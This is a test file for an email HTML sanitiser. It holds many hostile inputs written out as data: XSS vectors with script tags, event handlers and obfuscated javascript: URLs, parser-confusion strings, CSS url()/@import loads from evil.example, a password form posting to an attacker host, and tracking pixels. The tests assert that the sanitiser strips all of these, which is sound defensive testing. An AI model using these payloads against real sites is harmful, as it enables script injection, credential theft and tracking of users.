/**
 * The sanitiser against hostile mail: nothing in its output may run or load anything from
 * elsewhere, however the input is written — and an ordinary mail still looks like itself.
 * Every output is also checked to be made only of allowed tags and attributes, each value
 * quoted, so what a browser reads is exactly what was checked.
 */
import { describe, expect, it } from 'vitest';
import { originalHtmlDocument, sanitizeCss, sanitizeHtml } from '../../src/domain/sanitize-html.js';

const ALLOWED = new Set(
  'a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr style'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'abbr align alt axis bgcolor border cellpadding cellspacing char charoff class clear color cols colspan compact datetime dir face frame headers height hspace id lang name noshade nowrap open reversed rows rowspan rules scope size span start summary title type valign value vspace width style href src rel target'.split(
    ' ',
  ),
);

/**
 * The output read strictly: every `<` must start a well-formed tag of ours (name, then
 * name="value" pairs with no quote or angle bracket inside), with allowed names only; URLs
 * only where they load nothing; CSS with no function or at-rule that loads.
 */
function assertSafe(output: string): void {
  const tag = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)>/g;
  let styleOpen = false;
  let rest = '';
  let last = 0;
  for (const match of output.matchAll(tag)) {
    const between = output.slice(last, match.index);
    if (styleOpen) checkCss(between);
    else rest += between;
    last = match.index + match[0].length;
    const [, closing, name, attributes] = match;
    expect(ALLOWED, `element ${name}`).toContain(name);
    if (name === 'style') styleOpen = !closing;
    for (const [, attribute, value] of attributes!.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      expect(ATTRIBUTES, `attribute ${attribute}`).toContain(attribute);
      const decoded = value!
        .replace(/&quot;/g, '"')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&amp;/g, '&');
      if (attribute === 'href') expect(decoded).toMatch(/^(https?:\/\/|mailto:|tel:|#)/i);
      if (attribute === 'src')
        expect(decoded).toMatch(/^data:image\/(png|gif|jpe?g|webp|bmp);base64,[A-Za-z0-9+/=\s]*$/);
      if (attribute === 'style') checkCss(decoded);
      // A raw value keeps its character references; none may spell anything but text.
      expect(value).not.toMatch(/&#|&colon;|javascript/i);
    }
  }
  rest += output.slice(last);
  // Outside our tags, no markup at all.
  expect(rest).not.toContain('<');
  expect(rest).not.toContain('>');
}

function checkCss(css: string): void {
  const functions = [...css.matchAll(/([-\w\u0080-\uffff]+)\(/g)].map((match) => match[1]!.toLowerCase());
  for (const name of functions)
    expect([
      'url',
      'image-set',
      '-webkit-image-set',
      'image',
      'cross-fade',
      'element',
      'expression',
      'src',
      'attr',
    ]).not.toContain(name);
  expect(css).not.toMatch(/@import|@font-face|@namespace|\\|</i);
}

/** The output's markup without its attribute values (text there is only text). */
const markup = (output: string) => output.replace(/="[^"]*"/g, '=""');

const clean = (html: string) => {
  const output = sanitizeHtml(html);
  assertSafe(output);
  return output;
};

describe('the HTML sanitiser takes out', () => {
  it('scripts, however they are written', () => {
    for (const hostile of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
      '<script type="module">import("https://evil.example")</script>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<script>document.write("</scr"+"ipt><img src=x onerror=alert(1)>")</script>',
      '<script/xss src="https://evil.example/x.js"></script>',
      '<script>/* never closed',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<svg><script>alert(1)</script></svg>',
      '<svg onload=alert(1)>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<template><script>alert(1)</script></template>',
      '<xmp><script>alert(1)</script></xmp>',
      '<textarea><script>alert(1)</script></textarea>',
      '<title><script>alert(1)</script></title>',
      '<plaintext><script>alert(1)</script>',
    ]) {
      const output = clean(`<p>before</p>${hostile}<p>after</p>`);
      expect(output, hostile).not.toMatch(/<script|onerror|onload|alert\(1\)\)?<|<svg|<math|<img/i);
      expect(output, hostile).toContain('before');
    }
  });

  it('event handlers, however they are quoted and cased', () => {
    for (const hostile of [
      '<img src=x onerror=alert(1)>',
      '<img src="x" ONERROR="alert(1)">',
      "<div onclick='alert(1)'>x</div>",
      '<body onload=alert(1)>x',
      '<a href="https://example.com" onmouseover=alert(1)>x</a>',
      '<p/onclick=alert(1)>x</p>',
      '<div\tonclick\n=\nalert(1)>x</div>',
      '<details open ontoggle=alert(1)>x</details>',
      '<div onclick=alert(1) onclick=alert(2)>x</div>',
    ]) {
      const output = clean(hostile);
      expect(output, hostile).not.toMatch(/\bon[a-z]+=/i);
    }
  });

  it('frames, objects, embeds, applets, forms, meta refresh, base and linked style sheets', () => {
    const output = clean(
      [
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<frameset><frame src="https://evil.example"></frameset>',
        '<object data="https://evil.example/x.swf"><param name=movie value=x></object>',
        '<embed src="https://evil.example/x.swf">',
        '<applet code="X.class"></applet>',
        '<form action="https://evil.example/steal"><input name=p type=password><button formaction="https://evil.example">Go</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<link rel="prefetch" href="https://evil.example/track">',
        '<audio src="https://evil.example/a.mp3"></audio><video poster="https://evil.example/p.png"></video>',
        '<portal src="https://evil.example"></portal>',
      ].join(''),
    );
    expect(output).not.toMatch(
      /evil\.example|<iframe|<frame|<object|<embed|<applet|<form|<input|<meta|<base|<link|<audio|<video/i,
    );
    // A button's words are kept, not the button.
    expect(output).toContain('Go');
  });

  it('links that run or point nowhere safe, also in disguise', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' \t javascript:alert(1)',
      'java\nscript:alert(1)',
      'java&#x09;script:alert(1)',
      '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
      'javascript&colon;alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      '//evil.example/relative-to-the-scheme',
      'file:///etc/passwd',
    ]) {
      const output = clean(`<a href="${href}">click</a>`);
      expect(output, href).toBe('<a>click</a>');
    }
    // What is kept is what was checked: the browser gets the same URL.
    expect(clean('<a href="https://example.com/a?x=1&amp;y=2">x</a>')).toBe(
      '<a href="https://example.com/a?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(clean('<a href="&#104;ttps://example.com/">x</a>')).toContain('href="https://example.com/"');
    expect(clean('<a href="mailto:a@example.com">m</a><a href="#top">t</a>')).toContain('href="mailto:a@example.com"');
  });

  it('images and other loads from elsewhere (tracking pixels), keeping an image’s alt text', () => {
    const output = clean(
      [
        '<img src="https://tracker.example/open.gif?u=1" width=1 height=1>',
        '<img src="http://cdn.example/logo.png" alt="Acme <Logo>">',
        '<img src="//cdn.example/x.png">',
        '<img srcset="https://cdn.example/x.png 2x" src="data:image/png;base64,iVBORw0KGgo=">',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<img src="cid:unknown@part">',
        '<table background="https://tracker.example/bg.png"><tr><td background="https://tracker.example/td.png">cell</td></tr></table>',
        '<body background="https://tracker.example/body.png">',
        '<image src="https://tracker.example/image.png">',
        '<input type="image" src="https://tracker.example/input.png">',
        '<video><source src="https://tracker.example/v.mp4"></video>',
        '<div style="background:url(https://tracker.example/css.png)">styled</div>',
      ].join(''),
    );
    expect(output).not.toMatch(/tracker\.example|cdn\.example|srcset|background=|svg/);
    expect(output).toContain('[Acme &lt;Logo&gt;]');
    // The one image that loads nothing is kept.
    expect(output).toContain('<img src="data:image/png;base64,iVBORw0KGgo=">');
    expect(output).toContain('cell');
    expect(output).toContain('styled');
  });

  it('CSS that loads or runs, however it is spelled', () => {
    const sheets = [
      '@import url(https://evil.example/x.css);',
      '@import "https://evil.example/x.css";',
      '@IMPORT "https://evil.example/x.css";',
      '@\\69mport "https://evil.example/x.css";',
      '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
      'body { background: url("https://evil.example/b.png") }',
      'body { background: URL(https://evil.example/b.png) }',
      'body { background: u\\72l(https://evil.example/b.png) }',
      'body { background: \\75 rl(https://evil.example/b.png) }',
      'body { background: ur/**/l(https://evil.example/b.png) }',
      'body { background-image: image-set("https://evil.example/b.png" 1x) }',
      'body { background-image: -webkit-image-set("https://evil.example/b.png" 1x) }',
      'body { width: expression(alert(1)) }',
      'body { behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#y) }',
      'body { list-style: image("https://evil.example/l.png") }',
      'p { content: attr(title url) }',
      '</style><script>alert(1)</script>',
    ];
    for (const css of sheets) {
      const output = clean(`<style>${css}</style><div style="${css.replace(/"/g, '&quot;')}">x</div>`);
      expect(output, css).not.toMatch(/<script|url\(|image-set\(|expression\(|@import|@font-face/i);
    }
    // An entity in a style attribute is decoded before it is checked.
    expect(clean('<div style="background:u&#114;l(https://evil.example/x.png)">x</div>')).not.toMatch(/url\(/i);
    expect(sanitizeCss('a{color:red}')).toBe('a{color:red}');
  });

  it('markup that confuses a parser: comments, CDATA, broken quotes, unclosed tags', () => {
    for (const hostile of [
      '<!--<img src=x onerror=alert(1)>-->',
      '<!-- --!><img src=x onerror=alert(1)> -->',
      '<![CDATA[<img src=x onerror=alert(1)>]]>',
      '<p title="</p><img src=x onerror=alert(1)>">x</p>',
      "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
      '<p title=x"onmouseover=alert(1)>x</p>',
      '<img """><script>alert(1)</script>">',
      '<a href="https://example.com"<img src=x onerror=alert(1)>',
      '<div <img src=x onerror=alert(1)>>x</div>',
      '<<script>script>alert(1)<</script>/script>',
      '</p><img src=x onerror=alert(1)>',
      '<? xml <img src=x onerror=alert(1)> ?>',
      '<div title="never closed',
      '<div><span><b>open',
    ]) {
      const output = markup(clean(hostile));
      expect(output, hostile).not.toMatch(/<script|<img|onerror=|onmouseover=/i);
    }
    expect(clean('<div><span><b>open')).toBe('<div><span><b>open</b></span></div>');
    expect(clean('a < b and c > d & e')).toBe('a &lt; b and c &gt; d & e');
  });

  it('goes linear on huge and deeply nested input', () => {
    const deep = `${'<div>'.repeat(50_000)}x${'</span>'.repeat(50_000)}`;
    const started = Date.now();
    const output = clean(deep);
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(output).toContain('x');
    expect(clean('<a '.repeat(20_000))).toBe('');
  });
});

describe('the HTML sanitiser keeps', () => {
  it('what makes a mail look like itself: tables, fonts, colours, styles, entities, links', () => {
    const mail = [
      '<html><head><meta charset="utf-8"><title>News</title>',
      '<style>@media (max-width: 600px) { .col { width: 100% !important } } td { color: rgb(10, 20, 30) }</style></head>',
      '<body><table width="600" cellpadding="0" bgcolor="#ffffff" style="border-collapse: collapse">',
      '<tr><td class="col" align="center" style="font-family: Arial, sans-serif; color: #333">',
      '<font face="Meiryo" color="red">こんにちは &amp; welcome&nbsp;&copy;</font><br>',
      '<a href="https://example.jp/offer">今すぐ</a></td></tr></table><o:p></o:p></body></html>',
    ].join('');
    const output = clean(mail);
    expect(output).toContain(
      '<style>@media (max-width: 600px) { .col { width: 100% !important } } td { color: rgb(10, 20, 30) }</style>',
    );
    expect(output).toContain('<table width="600" cellpadding="0" bgcolor="#ffffff" style="border-collapse: collapse">');
    expect(output).toContain('<td class="col" align="center" style="font-family: Arial, sans-serif; color: #333">');
    expect(output).toContain('<font face="Meiryo" color="red">こんにちは &amp; welcome&nbsp;&copy;</font><br>');
    expect(output).toContain(
      '<a href="https://example.jp/offer" rel="noopener noreferrer nofollow" target="_blank">今すぐ</a>',
    );
    expect(output).not.toMatch(/<html|<head|<body|<title|News|<meta|o:p/);
  });

  it('inline images of the mail (cid:), as data: URLs', () => {
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==';
    const output = sanitizeHtml('<img src="cid:logo%40example.jp" alt="logo"><img src="cid:other">', {
      inlineImage: (id) => (id === 'logo@example.jp' ? png : id === 'other' ? 'data:text/html,<script>' : undefined),
    });
    assertSafe(output);
    expect(output).toBe(`<img src="${png}" alt="logo">`);
  });

  it('in a page of its own that forbids scripts and loads, titled with the escaped subject', () => {
    const page = originalHtmlDocument('<p>x</p>', 'Re: <b>&</b>');
    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;`);
    expect(page).toContain('<title>Re: &lt;b&gt;&amp;&lt;/b&gt;</title>');
    expect(page).toContain('<meta charset="utf-8">');
    expect(page).toContain('<body>\n<p>x</p>\n</body>');
  });
});
